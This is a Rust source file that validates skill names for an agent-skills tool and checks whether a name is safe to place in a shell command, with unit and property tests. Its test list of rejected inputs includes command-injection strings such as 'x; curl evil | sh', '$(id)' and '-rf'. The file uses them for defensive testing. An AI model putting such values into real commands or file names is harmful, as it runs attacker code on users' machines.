//! The `agentskills` name rule (01 §The validator and its profiles), shared by the validator,
//! `create` and the installer's slug check.
//!
//! Names are NFKC-normalised before any check, as the reference validator does, so `café`
//! written with a combining accent equals `café` written precomposed. "Letters and digits" is
//! the reference's `str.isalnum()`: Unicode general categories L* and N*. Combining marks are
//! not letters there, so neither are they here.

use std::borrow::Cow;

use skills_types::DiagnosticCode;
use skills_types::limits::MAX_NAME_CHARS;
use unicode_normalization::UnicodeNormalization;
use unicode_properties::{GeneralCategoryGroup, UnicodeGeneralCategory};

/// The name as the rule sees it: trimmed, then NFKC-normalised.
pub fn normalize(name: &str) -> String {
    nfkc(name.trim()).into_owned()
}

/// `text` NFKC-normalised, borrowed when it is ASCII, which normalisation leaves as it is:
/// every skill of a tree is checked here twice, and collecting the normalised characters of
/// its name and folder was a sixth of `validate --recursive`'s instructions at 10,000 skills.
fn nfkc(text: &str) -> Cow<'_, str> {
    if text.is_ascii() {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(text.nfkc().collect())
    }
}

/// Every way `name` breaks the rule, as codes with messages; empty when the name is valid.
/// The name-versus-directory check is separate ([`matches_directory`]).
pub fn problems(name: &str) -> Vec<(DiagnosticCode, String)> {
    let name = nfkc(name.trim());
    let mut found = Vec::new();
    if name.is_empty() {
        found.push((DiagnosticCode::NameEmpty, "the name is empty".to_owned()));
        return found;
    }
    let length = name.chars().count();
    if length > MAX_NAME_CHARS {
        found.push((
            DiagnosticCode::NameTooLong,
            format!("the name is {length} characters long; at most {MAX_NAME_CHARS} are allowed"),
        ));
    }
    let lowercase = if name.is_ascii() {
        !name.bytes().any(|byte| byte.is_ascii_uppercase())
    } else {
        name.to_lowercase() == *name
    };
    if !lowercase {
        found.push((
            DiagnosticCode::NameNotLowercase,
            format!("the name '{name}' must be lowercase"),
        ));
    }
    if name.starts_with('-') || name.ends_with('-') {
        found.push((
            DiagnosticCode::NameLeadingTrailingHyphen,
            format!("the name '{name}' must not start or end with '-'"),
        ));
    }
    if name.contains("--") {
        found.push((
            DiagnosticCode::NameConsecutiveHyphens,
            format!("the name '{name}' must not contain '--'"),
        ));
    }
    let mut invalid: Vec<char> = name.chars().filter(|&c| !is_name_char(c)).collect();
    if !invalid.is_empty() {
        invalid.dedup();
        let shown: String = invalid
            .iter()
            .take(8)
            .map(|c| format!("{:?}", c))
            .collect::<Vec<_>>()
            .join(", ");
        found.push((
            DiagnosticCode::NameInvalidCharacters,
            format!(
                "the name '{}' contains {shown}; only letters, digits and '-' are allowed",
                name.escape_debug()
            ),
        ));
    }
    found
}

/// Whether the name equals the directory name, both NFKC-normalised (the name also trimmed).
pub fn matches_directory(name: &str, directory: &str) -> bool {
    nfkc(name.trim()) == nfkc(directory)
}

/// Whether `name` passes the rule.
pub fn is_valid(name: &str) -> bool {
    problems(name).is_empty()
}

/// Whether `text` may be put, as it is, into a command an agent is told to run (`skills read
/// TEXT`): it passes the name rule, and so holds only letters, digits (Unicode L* and N*,
/// with the combining marks NFKC folds into them) and inner hyphens — no space, quote, shell
/// metacharacter, control or format character, and no leading `-` that would read as an
/// option. A folder id that passes is the safe way to name a skill in a command.
pub fn is_command_word(text: &str) -> bool {
    is_valid(text)
        && text.chars().all(|c| {
            c == '-'
                || matches!(
                    c.general_category_group(),
                    GeneralCategoryGroup::Letter
                        | GeneralCategoryGroup::Number
                        | GeneralCategoryGroup::Mark
                )
        })
}

fn is_name_char(c: char) -> bool {
    c == '-'
        || matches!(
            c.general_category_group(),
            GeneralCategoryGroup::Letter | GeneralCategoryGroup::Number
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(name: &str) -> Vec<DiagnosticCode> {
        problems(name).into_iter().map(|(code, _)| code).collect()
    }

    #[test]
    fn valid_names() {
        for name in [
            "pdf",
            "pdf-tools",
            "a1",
            "数据分析",
            "обработка-данных",
            "café",
            "cafe\u{301}",
            "x".repeat(64).as_str(),
            "ñandú-2",
        ] {
            assert!(is_valid(name), "{name}: {:?}", problems(name));
        }
    }

    #[test]
    fn invalid_names_name_their_rule() {
        use DiagnosticCode::*;
        let cases: &[(&str, &[DiagnosticCode])] = &[
            ("", &[NameEmpty]),
            ("   ", &[NameEmpty]),
            ("PDF", &[NameNotLowercase]),
            ("pdF", &[NameNotLowercase]),
            ("Café", &[NameNotLowercase]),
            ("ÉTÉ", &[NameNotLowercase]),
            ("-pdf", &[NameLeadingTrailingHyphen]),
            ("pdf-", &[NameLeadingTrailingHyphen]),
            ("pdf--tools", &[NameConsecutiveHyphens]),
            ("pdf_tools", &[NameInvalidCharacters]),
            ("pdf tools", &[NameInvalidCharacters]),
            ("pdf.tools", &[NameInvalidCharacters]),
            ("../etc", &[NameInvalidCharacters]),
            ("हिंदी", &[NameInvalidCharacters]),
            (
                "Bad_Name-",
                &[
                    NameNotLowercase,
                    NameLeadingTrailingHyphen,
                    NameInvalidCharacters,
                ],
            ),
        ];
        for (name, expected) in cases {
            assert_eq!(&codes(name), expected, "{name}");
        }
        assert_eq!(codes(&"x".repeat(65)), [NameTooLong]);
    }

    #[test]
    fn command_words() {
        for word in ["pdf", "pdf-tools", "数据分析", "cafe\u{301}"] {
            assert!(is_command_word(word), "{word}");
        }
        for word in [
            "x; curl evil | sh",
            "x\n",
            " pdf",
            "-rf",
            "a b",
            "$(id)",
            "`id`",
            "pdf\u{200b}",
            "\u{202e}fdp",
            "ｐｄｆ；",
            "",
        ] {
            assert!(!is_command_word(word), "{word:?}");
        }
    }

    proptest::proptest! {
        /// Whatever passes holds no ASCII but `[a-z0-9-]`, no whitespace, control or format
        /// character, and does not start with `-`.
        #[test]
        fn command_words_are_safe_in_a_shell(text in "\\PC{0,12}|[a-z0-9;| $`'\"\\-]{0,12}") {
            if is_command_word(&text) {
                proptest::prop_assert!(!text.starts_with('-'));
                proptest::prop_assert!(text.chars().all(|c| !c.is_ascii()
                    || c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'));
                proptest::prop_assert!(text.chars().all(|c| !c.is_whitespace()
                    && !skills_types::sanitize::is_removed(c)));
            }
        }
    }

    #[test]
    fn directory_match_is_nfkc_on_both_sides() {
        assert!(matches_directory("cafe\u{301}", "café"));
        assert!(matches_directory("café", "cafe\u{301}"));
        assert!(matches_directory(" pdf ", "pdf"));
        // ASCII is compared as it is, and only equal text matches.
        assert!(!matches_directory("pdf", " pdf"));
        assert!(matches_directory("ｐｄｆ", "pdf"));
        assert!(!matches_directory("pdf", "PDF"));
    }
}
